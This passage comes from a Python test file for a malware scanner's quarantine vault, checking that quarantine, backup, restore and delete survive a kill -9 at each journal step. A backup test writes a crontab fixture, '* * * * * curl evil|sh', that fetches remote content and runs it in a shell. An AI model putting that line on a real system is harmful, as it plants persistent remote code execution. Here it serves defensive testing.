        vault.quarantine(str(target), ident, "R", "F", "s")

    assert target.read_bytes() == b"someone else's file"
    assert (tmp_path / "a.bin.orig").read_bytes() == PAYLOAD
    assert_untouched(vault)


def test_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    with pytest.raises(QuarantineError, match="not a regular file"):
        vault.quarantine(str(fifo), None, "R", "F", "s")


# -- crash safety: kill -9 at every step ----------------------------------------------------

CHILD = r"""
import json, os, sys
from datetime import datetime, timezone
from pathlib import Path
from scanner.remediation.quarantine import Vault
from scanner.model import FileIdentity
from scanner.remediation.vault_records import ScannedFile

a = json.loads(sys.argv[1])
vault = Vault(Path(a["root"]), now=lambda: datetime(2025, 3, 4, tzinfo=timezone.utc))
op = a["op"]
if op in ("quarantine", "remove"):
    expected = ScannedFile(FileIdentity(*a["ident"]["identity"]), a["ident"]["sha256"])
    vault.quarantine(a["path"], expected, "R", "F", "s", keep=op == "quarantine")
elif op == "backup":
    vault.backup(a["path"], "s", "cleaning")
elif op == "restore":
    vault.restore(a["item"], to=a.get("to"), overwrite=a.get("overwrite", False))
elif op == "delete":
    vault.delete(a["item"])
print("finished without being killed")
"""


def run_killed(step: str, **args: object) -> None:
    env = {**os.environ, vault_journal.ENV_FAULT: step, "PYTHONPATH": str(REPO)}
    proc = subprocess.run(
        [sys.executable, "-c", CHILD, json.dumps(args)], env=env, cwd=REPO, capture_output=True, text=True
    )
    assert proc.returncode == -signal.SIGKILL, (step, proc.returncode, proc.stdout, proc.stderr)


def recover_twice(vault: Vault) -> list[str]:
    done = vault.recover()
    assert vault.recover() == []  # idempotent
    assert_clean(vault)
    return done


def ident_args(path: Path) -> dict[str, object]:
    ident = identify(str(path))
    return {"identity": list(ident.identity), "sha256": ident.sha256}


@pytest.mark.parametrize("op", ["quarantine", "remove"])
def test_kill_during_quarantine_or_remove_loses_nothing(tmp_path: Path, op: str) -> None:
    steps = FAULT_STEPS[op]
    forward_from = steps.index(f"{op}:recorded")
    for n, step in enumerate(steps):
        case = tmp_path / str(n)
        vault = make_vault(case)
        target = write(case / "victim dir" / "payload.bin")
        run_killed(step, op=op, root=str(vault.root), path=str(target), ident=ident_args(target))

        done = recover_twice(vault)

        assert done, step
        items = vault.list()
        if n < forward_from:  # rolled back: the original was never touched
            assert target.read_bytes() == PAYLOAD, step
            assert items == [], step
        else:  # rolled forward
            assert not target.exists(), step
            assert len(items) == 1, step
            if op == "quarantine":
                vault.restore(items[0].id)
                assert target.read_bytes() == PAYLOAD, step
            else:
                assert items[0].kind is ItemKind.REMOVED and items[0].sha256 == sha256(PAYLOAD)


def test_kill_during_backup_loses_nothing(tmp_path: Path) -> None:
    steps = FAULT_STEPS["backup"]
    for n, step in enumerate(steps):
        case = tmp_path / str(n)
        vault = make_vault(case)
        cron = write(case / "crontab", b"* * * * * curl evil|sh\n", 0o600)
        run_killed(step, op="backup", root=str(vault.root), path=str(cron))

        recover_twice(vault)

        assert cron.read_bytes() == b"* * * * * curl evil|sh\n", step
        items = vault.list()
        assert len(items) == (1 if step == "backup:recorded" else 0), step
        if items:
            cron.unlink()
            vault.restore(items[0].id)
            assert cron.read_bytes() == b"* * * * * curl evil|sh\n"


@pytest.mark.parametrize("overwrite", [False, True], ids=["restore", "undo-backup"])
def test_kill_during_restore_loses_nothing(tmp_path: Path, overwrite: bool) -> None:
    steps = FAULT_STEPS["restore"]
    forward_from = steps.index("restore:placed")
    for n, step in enumerate(steps):
        case = tmp_path / str(n)
        vault = make_vault(case)
        target = write(case / "gone" / "deeper" / "payload.bin")
        if overwrite:
            item = vault.backup(str(target), "s", "cleaning")
            target.write_bytes(b"edited")
        else:
            item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
            (case / "gone" / "deeper").rmdir()
            (case / "gone").rmdir()
        run_killed(step, op="restore", root=str(vault.root), item=item.id, overwrite=overwrite)

        done = recover_twice(vault)

        assert done, step
        assert_no_restore_temps(target.parent)
        if n < forward_from:  # rolled back: the item is still whole in the vault
            assert vault.list() == [item], step
            assert target.read_bytes() == b"edited" if overwrite else not target.exists(), step
            vault.restore(item.id, overwrite=overwrite)
        else:
            assert vault.list() == [], step
        assert target.read_bytes() == PAYLOAD, step
        assert stat.S_IMODE(target.stat().st_mode) == 0o750, step


def test_kill_during_delete_leaves_no_half_item(tmp_path: Path) -> None:
    for n, step in enumerate(FAULT_STEPS["delete"]):
        case = tmp_path / str(n)
        vault = make_vault(case)
        item = vault.quarantine(str(write(case / "a")), None, "R", "F", "s")
        run_killed(step, op="delete", root=str(vault.root), item=item.id)

        assert recover_twice(vault) == [f"finished deleting item {item.id}"], step
        assert vault.list() == [], step


def test_recover_keeps_an_original_that_changed_after_the_crash(tmp_path: Path) -> None:
    for op in ("quarantine", "remove"):
        case = tmp_path / op
        vault = make_vault(case)
        target = write(case / "a.bin")
        run_killed(f"{op}:recorded", op=op, root=str(vault.root), path=str(target), ident=ident_args(target))
        target.write_bytes(b"rewritten by its owner after the crash")

        (message,) = recover_twice(vault)

        assert target.read_bytes() == b"rewritten by its owner after the crash"
        if op == "quarantine":  # the scanned copy stays in the vault, as a copy
            assert "left in place" in message
            (item,) = vault.list()
            assert inert.decode((vault.items_dir / f"{item.id}.inert").read_bytes()) == PAYLOAD
        else:  # the record would claim a removal that did not happen
            assert "rolled back" in message
            assert vault.list() == []


def test_recover_sweeps_temporary_files_of_a_crash_before_the_journal(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "a")
    vault.quarantine(str(target), None, "R", "F", "s")
    (vault.tmp_dir / "0123456789abcdef.json.part").write_bytes(b'{"format": 1, "op": "quaran')
    assert vault.recover() == []
    assert_clean(vault)


def test_recover_on_a_fresh_state_directory_creates_nothing(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    assert vault.recover() == []
    assert vault.list() == []
    assert not vault.root.exists()


def test_every_fault_step_is_registered_in_order(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[str] = []
    monkeypatch.setattr(vault_journal, "fault", seen.append)
    vault = make_vault(tmp_path)

    def steps_of(action: object) -> tuple[str, ...]:
        seen.clear()
        assert callable(action)
        action()
        return tuple(seen)

    a = write(tmp_path / "a")
    b = write(tmp_path / "b")
    cron = write(tmp_path / "cron")
    made: list[QuarantineItem] = []
    assert steps_of(lambda: made.append(vault.quarantine(str(a), None, "R", "F", "s"))) == FAULT_STEPS["quarantine"]
    assert steps_of(lambda: vault.quarantine(str(b), None, "R", "F", "s", keep=False)) == FAULT_STEPS["remove"]
    assert steps_of(lambda: made.append(vault.backup(str(cron), "s", "r"))) == FAULT_STEPS["backup"]
    assert steps_of(lambda: vault.restore(made[0].id)) == FAULT_STEPS["restore"]
    assert steps_of(lambda: vault.delete(made[1].id)) == FAULT_STEPS["delete"]


def test_file_identity_from_stat(tmp_path: Path) -> None:
    target = write(tmp_path / "a")
    st = os.lstat(target)
    assert identify(str(target)) == ScannedFile(
        FileIdentity(st.st_dev, st.st_ino, st.st_size, st.st_mtime_ns, st.st_ctime_ns), sha256(PAYLOAD)
    )
